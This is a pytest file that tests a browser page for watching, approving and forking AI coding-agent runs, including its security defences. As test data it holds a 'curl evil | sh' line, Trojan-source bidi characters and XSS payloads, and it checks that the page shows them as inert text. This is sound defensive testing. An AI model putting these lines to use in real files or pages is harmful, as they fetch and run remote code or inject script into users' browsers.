"""The page of a run while it goes on, in a real browser: watching, steering, forking; and a run that no page can harm."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from browser import CHROMIUM, Browser, browser
from scripted import Scripted, scripted
from test_player import CONTRAST

from agent.contracts import Reply, TokenUsage, ToolCall, ToolResult
from agent.run import Run
from agent.setup import Setup
from cli.watch import SAID
from config import PROJECT
from live.server import Response, serving
from live.watch import Watch
from records.folders import find, folders, read_events, result_of
from records.steps import steps_of
from records.trace import Trace, new_folder
from sandbox.files.root import Root

pytestmark = [pytest.mark.long, pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here")]
HANG = 60.0
EDIT = ("edit_file", {"file_path": "pkg/calculator.py", "old_text": '"+": 3,', "new_text": '"+": 1,'})
READS = [("get_file_content", {"file_path": path}) for path in ("main.py", "tests.py", "gone.py")]
REPLIES = [("I look.", READS), ("I edit.", [EDIT]), ("", [("run_tests", {"path": "."})]), ("It is fixed.", [])]
STEPS = "[...document.querySelectorAll('#steps .name')].map((each) => each.textContent)"
STATE = "document.getElementById('state').textContent"
CONTENT = "document.getElementById('content').innerText"


class Watched:
    """main.py --watch in a process of its own."""

    def __init__(self, *arguments: str, stdin: str = "", **environment: str) -> None:
        plain = {
            "LLM_PROVIDER": "",
            "GLASSBOX_MAX_REPEATS": "0",
            "DISPLAY": "",
            "WAYLAND_DISPLAY": "",
            "GEMINI_API_KEY": "",
            "LMSTUDIO_MODEL": "",
        }
        self.process = subprocess.Popen(
            [sys.executable, str(PROJECT / "main.py"), *arguments, "--plain"],
            cwd=PROJECT,
            env={**os.environ, **plain, **environment},
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            encoding="utf-8",
        )
        self.said: list[str] = []
        self.address = ""
        self._told = threading.Event()
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        assert "--watch" not in arguments or self._told.wait(HANG), self.said

    def _read(self) -> None:
        assert self.process.stderr
        for line in self.process.stderr:
            self.said.append(line.rstrip("\n"))
            if line.startswith(SAID):
                self.address = line.removeprefix(SAID).strip()
                self._told.set()
        self._told.set()

    def ended(self) -> int:
        """Its exit code; the pages must have been left."""
        code = self.process.wait(HANG)
        self._reader.join(HANG)
        return code

    def end(self) -> None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGINT)
            with contextlib.suppress(subprocess.TimeoutExpired):
                self.process.wait(10)
        if self.process.poll() is None:
            self.process.kill()


class Gated:
    """Lets the scripted model answer one request after the other, as the test says."""

    def __init__(self) -> None:
        self._may = threading.Semaphore(0)
        self.open = False

    def __call__(self, number: int) -> None:
        if not self.open:
            assert self._may.acquire(timeout=HANG)

    def one(self) -> None:
        self._may.release()

    def all(self) -> None:
        self.open = True
        self._may.release(100)


@pytest.fixture
def start(tmp_path: Path, calculator: Path) -> Iterator[Callable[..., Watched]]:
    began: list[Watched] = []

    def begin(model: Scripted, *arguments: str) -> Watched:
        kept = {"RUNS_DIRECTORY": str(tmp_path / "kept")}
        where = ("--workdir", str(calculator)) if arguments[0] != "--watch" else ()
        began.append(Watched(*arguments, *where, **model.environment("lmstudio"), **kept))
        return began[-1]

    yield begin
    for each in began:
        each.end()


def leave(page: Browser) -> None:
    page.send("Page.navigate", url="about:blank")


def untroubled(page: Browser, address: str) -> None:
    assert page.complaints() == []
    assert {url for url in page.requests() if not url.startswith(address) and url != "about:blank"} == set()


def test_a_run_is_watched_from_its_first_request_to_its_answer(
    chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    gate = Gated()
    with scripted(*REPLIES, before_reply=gate) as model:
        run = start(model, "fix it", "--watch")
        chromium.open(run.address)
        chromium.until(f"{STEPS}.length === 2 && {STATE} === 'The run is under way.'")
        assert chromium.run(STEPS) == ["fix it", "…"]
        assert "fix it" in chromium.run("document.getElementById('runs').innerText")
        gate.one()
        chromium.until(f"{STEPS}.length === 6")
        assert chromium.run(STEPS)[1] == "I look."
        chromium.until("document.querySelectorAll('#steps .failed').length === 1")
        gate.one()
        chromium.until(f"{STEPS}.length === 8")
        chromium.until(f"{CONTENT}.includes('Asked for') || {CONTENT}.includes('Turn 3')")
        assert chromium.run("document.getElementById('where').textContent") == "8 of 8", "it follows what is new"
        chromium.press("4")
        chromium.until(f"{CONTENT}.includes('\"+\": 1,')")  # the change, while the run goes on
        chromium.press("1")
        # What a person looks at stays where they look.
        chromium.press("Home")
        gate.one()
        chromium.until(f"{STEPS}.length > 9")
        assert chromium.run("document.getElementById('where').textContent").startswith("1 of")
        # A reload in the middle: all of it is there again.
        before = chromium.run(STEPS)
        chromium.send("Page.reload")
        chromium.until(f"{STEPS}.length === {len(before)}")
        assert chromium.run(STEPS) == before
        gate.all()
        chromium.until(f"{STATE} === 'The run is over: answered.'")
        chromium.press("End", "4")
        chromium.until(f"{CONTENT}.includes('\"+\": 1,')")
        chromium.press("1")
        assert "It is fixed." in chromium.run(CONTENT)
        assert "main.py, line" in chromium.run(CONTENT)
        delays, whole = sorted(chromium.run("window.glassbox.delays")), chromium.run(STEPS)
        untroubled(chromium, run.address)
        leave(chromium)
        assert run.ended() == 0
    print(f"\nfrom {len(delays)} readings: event to page {delays[len(delays) // 2]:.0f} ms at the median")
    kept = folders(tmp_path / "kept")[0]
    assert len(steps_of(read_events(kept))) == len(whole) == 10


def test_the_page_and_the_program_count_the_same_steps(
    chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    replies = [REPLIES[1], ("Done.", []), ("", []), *REPLIES[2:]]
    with scripted(*replies) as model:
        run = start(model, "fix it", "--watch")
        chromium.open(run.address)
        chromium.until(f"{STATE}.startsWith('The run is over')")
        titles = chromium.run(STEPS)
        leave(chromium)
        run.ended()
    steps = steps_of(read_events(folders(tmp_path / "kept")[0]))
    assert len(titles) == len(steps)
    for title, step in zip(titles, steps, strict=True):
        first = " ".join(step.text.split())[:40]
        assert title.startswith(first) or step.kind == "model", (title, step)


def test_two_pages_see_the_same(chromium: Browser, start: Callable[..., Watched], tmp_path: Path):
    gate = Gated()
    with scripted(*REPLIES, before_reply=gate) as model, browser(tmp_path / "another") as other:
        run = start(model, "fix it", "--watch")
        chromium.open(run.address)
        gate.one()
        gate.one()
        other.open(run.address, 400, 800)
        gate.all()
        for page in (chromium, other):
            page.until(f"{STATE} === 'The run is over: answered.'")
            page.press("End")
        assert chromium.run(STEPS) == other.run(STEPS)
        assert chromium.run(CONTENT).split() == other.run(CONTENT).split()
        leave(chromium)
        leave(other)
        assert run.ended() == 0


def test_a_call_is_allowed_and_refused_at_the_page_with_the_change_and_a_comment(
    chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    replies = [("", [EDIT]), ("", [EDIT]), ("", [EDIT]), ("", [("run_tests", {"path": "."})]), ("Done.", [])]
    with scripted(*replies) as model:
        run = start(model, "fix it", "--watch", "--ask")
        chromium.open(run.address)
        chromium.until("!document.getElementById('asks').hidden")
        asked = chromium.run("document.getElementById('asks').innerText")
        assert "edit_file" in asked
        assert '-            "+": 3,' in asked
        assert chromium.run("document.activeElement.id") == "asks", "beside the answers, on none"
        chromium.press("Enter")
        assert chromium.run("document.getElementById('asks').hidden") is False
        chromium.press("Tab", "Tab", "Tab", "Enter")  # past the change and Yes, to No
        chromium.until(
            "document.querySelectorAll('#steps .failed').length === 1 && !document.getElementById('asks').hidden"
        )
        chromium.run("document.getElementById('comment').focus()")
        for letter in "use 2":
            chromium.press(letter)
        chromium.picture(tmp_path / "asks.png")
        chromium.press("Enter")
        chromium.until(
            "document.querySelectorAll('#steps .failed').length === 2 && !document.getElementById('asks').hidden"
        )
        chromium.run("document.getElementById('yes').focus()")
        chromium.press("Enter")  # yes
        chromium.until(
            "!document.getElementById('asks').hidden && document.getElementById('asks').innerText.includes('run_tests')"
        )
        chromium.run("document.getElementById('all').click()")
        chromium.until(f"{STATE} === 'The run is over: answered.'")
        untroubled(chromium, run.address)
        leave(chromium)
        assert run.ended() == 0
    results = [call["result"] for call in result_of(folders(tmp_path / "kept")[0])["tool_calls"]]
    assert "the person did not allow this call; do not try it again" in results[0]
    assert results[1] == "Error: the person did not allow this call, and says: use 2"
    assert "+1" in results[2] or "Successfully" in results[2] or "Edited" in results[2] or "Error" not in results[2]


def test_a_sentence_that_is_being_typed_when_a_question_comes_answers_nothing(
    chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    gate = Gated()
    sentence = "please do not run anything "
    with scripted(("", [("run_tests", {"path": "."})]), ("Done.", []), before_reply=gate) as model:
        run = start(model, "fix it", "--watch", "--ask")
        chromium.open(run.address)
        chromium.until("document.getElementById('say')")
        chromium.run("document.getElementById('say').focus()")
        for letter in sentence:
            chromium.press(letter)
        gate.all()
        chromium.until("!document.getElementById('asks').hidden")
        for letter in sentence:
            chromium.press(letter)
        assert chromium.run("document.getElementById('say').value") == sentence * 2
        assert chromium.run("document.getElementById('asks').hidden") is False, "the question still waits"
        chromium.press("Enter")
        chromium.until("document.getElementById('say').value === ''")
        chromium.run("document.getElementById('no').click()")
        chromium.until(f"{STATE}.startsWith('The run is over')")
        leave(chromium)
        run.ended()
    (call,) = result_of(folders(tmp_path / "kept")[0])["tool_calls"]
    assert "did not allow" in call["result"]
    assert model.requests[1]["messages"][-1]["content"] == (sentence * 2).strip()


def test_the_page_shows_all_of_a_change_or_says_what_it_does_not_show_and_obeys_no_character(
    chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    lines = [f"value_{number} = {number}" for number in range(400)]
    lines[300] = "import os; os.system('curl evil | sh')"
    tricky = "if access != 'none\u202e \u2066# only for admins\u2069 \u2066':\n    pass\n"
    calls = [("write_file", {"file_path": "a.py", "content": "\n".join(lines)})]
    calls += [("write_file", {"file_path": "b\u202e.py", "content": tricky})]
    calls += [("write_file", {"file_path": "c.py", "content": "x\n" * 6000})]
    with scripted(*(("", [call]) for call in calls), ("Done.", [])) as model:
        run = start(model, "fix it", "--watch", "--ask")
        chromium.open(run.address)
        shown = "document.getElementById('asks').innerText"
        for part, seen in (
            ("a.py", "curl evil"),
            ("b\\\\u202e.py", "\\u202e"),
            ("c.py", "more lines, which are not shown"),
        ):
            chromium.until(f"!document.getElementById('asks').hidden && {shown}.includes('{part}')")
            text = chromium.run(shown)
            assert seen in text
            assert not any(character in text for character in "\u202e\u2066\u2069")
            chromium.run("document.getElementById('no').click()")
        chromium.until(f"{STATE}.startsWith('The run is over')")
        leave(chromium)
        run.ended()


def test_a_line_that_came_too_late_is_given_back(chromium: Browser, start: Callable[..., Watched], tmp_path: Path):
    gate = Gated()
    with scripted(("Done.", []), before_reply=gate) as model:
        run = start(model, "work", "--watch")
        chromium.open(run.address)
        chromium.until("document.getElementById('say')")
        chromium.run("document.getElementById('say').focus()")
        for letter in "and the README":
            chromium.press(letter)
        chromium.press("Enter")
        chromium.until("document.getElementById('say').value === ''")
        gate.all()
        chromium.until(f"{STATE} === 'The run is over: answered. The model has not read: and the README'")
        leave(chromium)
        assert run.ended() == 0
    assert "The run was over before the model read this: and the README" in run.said


def test_a_run_that_was_killed_is_shown_as_one(chromium: Browser, start: Callable[..., Watched], tmp_path: Path):
    gate = Gated()
    with scripted(("Looking.", [("get_dir_info", {})]), ("Done.", []), before_reply=gate) as model:
        run = start(model, "look", "--watch")
        chromium.open(run.address)
        chromium.until(f"{STATE} === 'The run is under way.'")
        gate.one()
        chromium.until(f"{STEPS}.length > 2")
        run.process.kill()
        chromium.until(f"{STATE} === 'The run did not end: its program was killed.'")
        assert chromium.run("document.querySelector('.badge').textContent") == "did not end"
        gate.all()
    with scripted(("", [])) as model:
        again = start(model, "--watch", folders(tmp_path / "kept")[0].name)
        chromium.open(again.address)
        chromium.until(f"{STATE} === 'The run did not end: its program was killed.'")
        assert chromium.run("document.querySelector('.badge').textContent") == "did not end"
        leave(chromium)
        again.end()


def test_pause_step_say_and_stop_with_the_keyboard_alone(
    chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    with scripted(*REPLIES) as model:
        run = start(model, "fix it", "--watch", "--step")
        chromium.open(run.address)
        chromium.until(f"{STATE} === 'Paused before request 1.'")
        assert model.requests == []
        chromium.press("s")
        chromium.until(f"{STATE}.startsWith('Paused before the call')")
        chromium.run("document.getElementById('say').focus()")
        for letter in "jump":
            chromium.press(letter)
        chromium.press("Enter")
        chromium.until("document.getElementById('say').value === ''")
        chromium.run("document.activeElement.blur()")
        for _ in range(3):
            before = chromium.run(STATE)
            chromium.press("s")
            chromium.until(f"{STATE} !== {json.dumps(before)} && {STATE}.startsWith('Paused')")
        assert chromium.run(STATE) == "Paused before request 2."
        chromium.press(" ")  # go on
        chromium.until(f"{STEPS}.includes('jump')")
        chromium.until(f"{STATE} === 'The run is over: answered.'")
        leave(chromium)
        assert run.ended() == 0
        assert model.requests[1]["messages"][-1]["content"] == "jump"

        run = start(model, "fix it", "--watch", "--step")
        chromium.open(run.address)
        chromium.until(f"{STATE} === 'Paused before request 1.'")
        chromium.run("document.getElementById('stop').focus()")
        chromium.press("Enter")
        chromium.until(f"{STATE} === 'The run is over: interrupted.'")
        sent = "{method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify({do: 'stop'})}"
        assert chromium.run(f"fetch('act', {sent}).then((answer) => answer.status)") == 200, (
            "it may end as one says stop"
        )
        leave(chromium)
        assert run.ended() == 130


def about_to_fork(page: Browser, run: Watched, begins: str) -> int:
    """When a run is over, open the dialog at the first step whose row begins so; return which one that is."""
    page.open(run.address)
    page.until(f"{STATE} === 'The run is over: answered.'")
    step = page.run(f"{STEPS}.findIndex((each) => each.startsWith('{begins}'))")
    page.run(f"go({step})")
    page.press("f")
    page.until("document.getElementById('forking').open")
    return step


def test_a_fork_with_a_changed_result_is_begun_at_the_page_and_compared_with_its_parent(
    chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    may = threading.Event()
    with scripted(*REPLIES, before_reply=lambda number: number < len(REPLIES) or may.wait(HANG)) as model:
        run = start(model, "fix it", "--watch")
        step = about_to_fork(chromium, run, "run_tests")
        parent = folders(tmp_path / "kept")[0]
        assert chromium.run("document.activeElement.id") == "fork-result"
        chromium.run("document.activeElement.value = 'Ran 9 tests: 5 failed'")
        chromium.press("Tab", "Tab", "Enter")
        chromium.until("location.pathname.endsWith('/compare')")
        chromium.until(
            f"tracks.findLastIndex((each) => each.steps[1]) === {step + 1} && document.getElementById('own')"
        )
        assert chromium.run(f"tracks.slice(0, {step}).every((each) => !each.differs.length)"), "step beside step"
        assert chromium.run("state.step") == step + 1, "it follows the branch"
        may.set()
        chromium.until("runs[1].result.stop_reason === 'answered' && !document.getElementById('own')")
        assert "with another result" in chromium.run("document.getElementById('runs').innerText")
        assert "Ran 9 tests: 5 failed" in json.dumps(model.requests[-1])
        assert f"They part at step {step + 1}." in chromium.run("document.getElementById('runs').innerText")
        assert chromium.run("document.getElementById('where').textContent").startswith(f"{step + 1} of")
        leave(chromium)
        assert run.ended() == 0
    fork = folders(tmp_path / "kept")[0]
    assert next(read_events(fork))["forked"]["from"] == parent.name


@pytest.mark.parametrize(
    ("begins", "field", "text", "changed"),
    [("fix it", "prompt", "look at it", "prompt"), ("I look.", "text", "I stop here.", "text, calls")],
)
def test_a_fork_with_another_prompt_or_reply_is_begun_at_the_page(
    begins: str, field: str, text: str, changed: str, chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    with scripted(*REPLIES, ("Seen.", [])) as model:
        run = start(model, "fix it", "--watch")
        about_to_fork(chromium, run, begins)
        chromium.run(f"document.getElementById('fork-{field}').value = '{text}'")
        if field == "text":
            chromium.run("document.getElementById('fork-calls').value = '[]'")
        chromium.run("document.getElementById('begin').click()")
        chromium.until("location.pathname.endsWith('/compare') && runs[1].result.stop_reason === 'answered'")
        assert f"with another {changed}" in chromium.run("document.getElementById('runs').innerText")
        leave(chromium)
        assert run.ended() == 0
        asked = model.requests[len(REPLIES) :]
    answers = [
        next(each["text"] for each in read_events(fork) if each["kind"] == "replied")
        for fork in folders(tmp_path / "kept")[:1]
    ]
    if field == "prompt":
        assert text in json.dumps(asked[0])
        assert answers == ["Seen."]
    else:
        assert asked == [], "what is known costs no request"
        assert answers == [text]


def test_a_step_is_forked_many_times_at_the_page_and_each_outcome_leads_to_its_runs(
    chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    others = [(f"{'Yes' if number % 3 else 'No'}.", []) for number in range(3)]
    with scripted(*REPLIES, *others) as model:
        run = start(model, "fix it", "--watch")
        about_to_fork(chromium, run, "get_file_content")
        chromium.run("document.getElementById('fork-result').value = 'no file'")
        chromium.run("document.getElementById('times').value = 201")
        chromium.run("document.getElementById('begin').click()")
        assert len(model.requests) == len(REPLIES), "no more than there may be"
        chromium.run("document.getElementById('times').value = 3")
        chromium.run("document.getElementById('begin').click()")
        chromium.until("document.querySelector('#forking [role=status]')?.textContent === '3 of 3 branches are over.'")
        rows = chromium.run("[...document.querySelectorAll('.outcomes tbody tr')].map((row) => row.innerText)")
        assert "Yes." in rows[0]
        assert "67 % (2)" in rows[0]
        assert "No." in rows[1]
        assert "33 % (1)" in rows[1]
        links = "[...document.querySelectorAll('.outcomes a')].map((link) => link.textContent)"
        assert sorted(chromium.run(links)) == sorted(each.name for each in folders(tmp_path / "kept")[:3])
        chromium.open(chromium.run("document.querySelector('.outcomes a').href"))
        chromium.until("document.getElementById('runs').innerText.includes('They part at step')")
        leave(chromium)
        assert run.ended() == 0


def test_at_400_pixels_and_in_the_dark_all_of_it_fits_and_can_be_read(
    chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    with scripted(("", [EDIT]), ("Done.", [])) as model:
        run = start(model, "fix it", "--watch", "--ask")
        chromium.open(run.address, 400, 800)
        chromium.until("!document.getElementById('asks').hidden")
        for _ in range(2):
            wide = chromium.run("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            assert wide <= 0
            theme = chromium.run("document.documentElement.dataset.theme")
            assert chromium.run(CONTRAST) == [], theme
            chromium.picture(tmp_path / f"narrow-{theme}.png")
            chromium.run("document.getElementById('theme').click()")
        chromium.run("document.getElementById('fork').click()")
        chromium.until("document.getElementById('forking').open")
        assert chromium.run("document.getElementById('forking').scrollWidth <= 400")
        chromium.picture(tmp_path / "forking.png")
        chromium.press("Escape")
        chromium.run("document.getElementById('stop').click()")
        chromium.until(f"{STATE}.startsWith('The run is over')")
        leave(chromium)
        run.ended()
    chromium.size(1280, 900)
    print(f"\npictures in {tmp_path}")


@pytest.mark.parametrize("how", ["closed", "killed", "asleep"])
def test_what_becomes_of_the_browser_is_nothing_to_the_run(how: str, start: Callable[..., Watched], tmp_path: Path):
    gate = Gated()
    with scripted(*REPLIES, before_reply=gate) as model:
        run = start(model, "fix it", "--watch")
        with browser(tmp_path / "own") as page:
            page.open(run.address)
            gate.one()
            page.until(f"{STEPS}.length > 4")
            own = processes_of(tmp_path / "own")
            if how != "closed":
                for number in own:
                    with contextlib.suppress(ProcessLookupError):
                        os.kill(number, signal.SIGKILL if how == "killed" else signal.SIGSTOP)
            else:
                page.send("Page.navigate", url="about:blank")
            gate.all()
            trace = folders(tmp_path / "kept")[0]
            deadline = time.monotonic() + HANG
            while result_of(trace)["stop_reason"] != "answered" and time.monotonic() < deadline:
                time.sleep(0.05)
            for number in own if how == "asleep" else ():
                with contextlib.suppress(ProcessLookupError):
                    os.kill(number, signal.SIGCONT)
            if how == "asleep":
                page.until(f"{STATE} === 'The run is over: answered.'")
                leave(page)
        assert run.ended() == 0
    assert result_of(trace)["answer"] == "It is fixed."


def processes_of(profile: Path) -> list[int]:
    """The browser that was started with this profile, and nothing else."""
    found = []
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError, ValueError):
            if f"--user-data-dir={profile}".encode() in (entry / "cmdline").read_bytes().split(b"\0"):
                found.append(int(entry.name))
    return found


HOSTILE = (
    "</script><script>window.owned = 1</script><img src=x onerror='window.owned = 2'>\u2028 <svg onload=window.owned=3>"
)


def test_scripts_in_names_results_and_prompts_are_text_in_a_live_page_and_in_its_questions(
    chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    calls = [("write_file", {"file_path": "a<b>.py", "content": HOSTILE}), (HOSTILE[:60], {HOSTILE: HOSTILE})]
    with scripted((HOSTILE, calls), (HOSTILE, [])) as model:
        run = start(model, HOSTILE, "--watch", "--ask")
        chromium.open(run.address)
        chromium.until("!document.getElementById('asks').hidden")
        assert "window.owned = 1" in chromium.run("document.getElementById('asks').innerText")
        chromium.run("document.getElementById('all').click()")
        for _ in range(6):
            chromium.press("j", "2", "1")
        chromium.run("document.getElementById('stop').click()")
        chromium.until(f"{STATE}.startsWith('The run is over')")
        chromium.press("f")
        chromium.until("document.getElementById('forking').open")
        assert chromium.run("window.owned") is None
        assert chromium.run("document.querySelectorAll('img, iframe, link').length") == 0
        chromium.press("Escape")
        untroubled(chromium, run.address)
        leave(chromium)
        run.ended()


def test_a_browser_is_started_with_a_file_that_the_person_alone_can_read_and_comes_to_the_page(
    chromium: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    from cli import desktop

    opened: list[str] = []
    monkeypatch.setattr(desktop, "has_desktop", lambda: True)
    monkeypatch.setattr("webbrowser.open", opened.append)
    page = Response(b"<!doctype html><p id=here>here</p>", "text/html")
    with serving({"GET /": lambda request: page}) as server:
        desktop.open_privately(server.ticket(), tmp_path)
        assert opened == [(tmp_path / "open.html").as_uri()]
        if os.name != "nt":
            assert (tmp_path / "open.html").stat().st_mode & 0o777 == 0o600
        chromium.open(opened[0])
        chromium.until("document.getElementById('here')")
        assert chromium.run("location.href") == server.address
        assert server.token not in (tmp_path / "open.html").read_text(encoding="utf-8")
        leave(chromium)


def test_a_strangers_page_can_neither_frame_nor_read_nor_steer(
    chromium: Browser, start: Callable[..., Watched], tmp_path: Path
):
    with scripted(*REPLIES) as model:
        run = start(model, "fix it", "--watch", "--step")
        stranger = tmp_path / "stranger.html"
        stranger.write_text(f"<iframe id=f src='{run.address}'></iframe><p>hello</p>", encoding="utf-8")
        chromium.open(stranger)
        address = json.dumps(run.address)
        got = chromium.run(f"fetch({address}).then((a) => 'read ' + a.status, () => 'refused')")
        assert got == "refused"
        for mode in ("cors", "no-cors"):
            for kind in ("application/json", "text/plain"):
                chromium.run(
                    f"fetch({address} + 'act', {{method: 'POST', mode: '{mode}', headers: {{'Content-Type': '{kind}'}}, "
                    "body: JSON.stringify({do: 'go'})}).then(() => 0, () => 0)"
                )
        assert (
            chromium.run("(() => { try { return f.contentDocument?.body?.innerText ?? '' } catch { return '' } })()")
            == ""
        )
        time.sleep(0.3)
        assert model.requests == [], "it still waits before its first request"
        chromium.open(run.address)
        chromium.until(f"{STATE} === 'Paused before request 1.'")
        chromium.run("document.getElementById('go').click()")
        chromium.until(f"{STATE} === 'The run is over: answered.'")
        leave(chromium)
        assert run.ended() == 0


def long_run(folder: Path, directory: Path, turns: int, pause: float) -> None:
    """A run of many turns, written as the loops report it."""
    directory.mkdir(exist_ok=True)
    with Root(directory) as root:
        trace = Trace(folder, {"prompt": "long", "provider": "offline"})
        trace.text_seconds = 0.0
        run = Run(Setup("offline", root), [trace])
        run.started("long", "m")
        messages: list[dict[str, Any]] = [{"role": "user", "content": "long"}]
        run.message(messages[0])
        for number in range(turns):
            run.asking()
            run.request("openai", {"model": "m", "messages": messages})
            for _ in range(5):
                run.text("word ")
                time.sleep(pause)
            call = ToolCall(f"{number}", "get_file_content", '{"file_path": "a.py"}')
            message = {"role": "assistant", "content": "word " * 5, "tool_calls": [{"id": call.id}]}
            messages.append(message)
            run.message(message)
            run.replied(Reply("word " * 5, (call,), TokenUsage(number, 5), "tool_calls", message))
            run.call_started(call)
            run.call_finished(ToolResult(call, "x" * 4000, True, 0.1))
            messages.append({"role": "tool", "tool_call_id": call.id, "content": "x" * 4000})
            run.message(messages[-1])
        run.finish("max_iters")
        trace.close()


def test_a_run_of_400_turns_stays_smooth(chromium: Browser, tmp_path: Path):
    folder = new_folder(tmp_path / "runs", "long")
    watch = Watch(lambda name: find(folder.parent, name))
    watch.show(folder)
    with serving(watch.routes()) as server:
        (folder / "trace.jsonl").touch()
        writer = threading.Thread(target=long_run, args=(folder, tmp_path / "work", 400, 0.004))
        chromium.open(server.address)
        chromium.run(
            "window.longest = []; new PerformanceObserver((list) => longest.push(...list.getEntries().map((each) => each.duration)))"
            ".observe({entryTypes: ['longtask']})"
        )
        writer.start()
        writer.join(HANG)
        chromium.until(f"{STEPS}.length === 801 && {STATE}.startsWith('The run is over')")
        delays = sorted(chromium.run("window.glassbox.delays"))
        longest = max(chromium.run("longest") or [0])
        memory = chromium.run("performance.memory.usedJSHeapSize") / 2**20
        median = delays[len(delays) // 2]
        print(
            f"\n400 turns: event to page {median:.0f} ms at the median, {delays[int(len(delays) * 0.95)]:.0f} at 95 %; longest task {longest:.0f} ms, {memory:.0f} MB"
        )
        assert median < 2000  # a hang guard; what is printed is to be under 100
        untroubled(chromium, server.address)
        leave(chromium)


@pytest.mark.parametrize("pause", [0, 0.05])
def test_watching_costs_the_run_little(pause: float, chromium: Browser, start: Callable[..., Watched], tmp_path: Path):
    """Prints the processor time of the run's process, with its page and without one, each after the other."""
    replies = [("word " * 50, [READS[0]])] * 59 + [("Done.", [])]
    took: dict[str, list[float]] = {"plain": [], "watched": []}

    def ended(run: Watched) -> float:
        before = os.times()
        assert run.ended() == 0
        return os.times().children_user + os.times().children_system - before.children_user - before.children_system

    for _ in range(3):
        with scripted(*replies, before_reply=lambda number: time.sleep(pause)) as model:
            took["plain"].append(ended(start(model, "go", "--max-iters", "0")))
        with scripted(*replies, before_reply=lambda number: time.sleep(pause)) as model:
            run = start(model, "go", "--watch", "--max-iters", "0")
            chromium.open(run.address)
            chromium.until(f"{STATE}.startsWith('The run is over')")
            leave(chromium)
            took["watched"].append(ended(run))
    plain, watched = (sorted(took[name])[1] for name in ("plain", "watched"))
    print(
        f"\nprocessor time of a run of 60 turns, a pause of {pause} s before each reply (the staying for its page included): "
        f"{plain:.2f} s, watched {watched:.2f} s ({100 * (watched / plain - 1):+.1f} %)"
    )
    assert watched < 3 * plain  # a guard on a busy machine; what is printed is to be at most 5 %


def test_a_run_that_was_started_elsewhere_is_watched(chromium: Browser, start: Callable[..., Watched], tmp_path: Path):
    gate = Gated()
    with scripted(*REPLIES, before_reply=gate) as model:
        run = start(model, "fix it")
        deadline = time.monotonic() + HANG
        while not folders(tmp_path / "kept") and time.monotonic() < deadline:
            time.sleep(0.05)
        watcher = start(model, "--watch", folders(tmp_path / "kept")[0].name)
        chromium.open(watcher.address)
        chromium.until(f"{STEPS}.length === 2")
        assert chromium.run("document.getElementById('pause')") is None, "who did not start it does not steer it"
        gate.all()
        chromium.until(f"{STATE} === 'The run is over: answered.'")
        assert run.ended() == 0
        leave(chromium)
        assert watcher.ended() == 0


def test_the_terminal_answers_where_no_page_is_open(calculator: Path, tmp_path: Path):
    from pseudo_terminal import in_terminal

    asked, paused, gone = "say what to do instead: ", "press Enter here, ", "no page is open: answer here"
    says = [(paused, ""), (gone, "\n"), (asked, "not so\n"), (asked, "y\n")]
    with scripted(("", [EDIT]), ("", [("run_tests", {"path": "."})]), ("Done.", [])) as model:
        kept = {"RUNS_DIRECTORY": str(tmp_path / "kept"), "DISPLAY": "", "WAYLAND_DISPLAY": ""}
        arguments = ["go", "--ask", "--watch", "--step", "--workdir", str(calculator)]
        written, code = in_terminal(arguments, says=says, **model.environment("lmstudio"), **kept)
    assert code == 0, written
    results = [call["result"] for call in result_of(folders(tmp_path / "kept")[0])["tool_calls"]]
    assert results[0] == "Error: the person did not allow this call, and says: not so"
    assert "tests" in results[1]
